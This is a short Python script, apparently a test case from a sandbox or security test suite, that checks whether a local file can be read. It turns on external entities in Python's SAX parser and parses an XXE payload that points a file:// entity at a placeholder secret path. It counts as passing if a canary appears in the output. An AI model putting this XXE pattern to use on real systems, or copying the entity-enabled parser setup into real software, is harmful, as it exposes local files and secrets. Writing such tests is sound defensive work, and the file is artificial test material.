# class: fs-read
# technique: an external XML entity names a foreign file
# success: output_has @@CANARY@@
import xml.sax, io
from xml.sax.handler import feature_external_ges, ContentHandler
class H(ContentHandler):
    def characters(self, text): print(text)
p = xml.sax.make_parser()
p.setFeature(feature_external_ges, True)
p.setContentHandler(H())
p.parse(io.StringIO('<!DOCTYPE a [<!ENTITY x SYSTEM "file://@@SECRET@@">]><a>&x;</a>'))
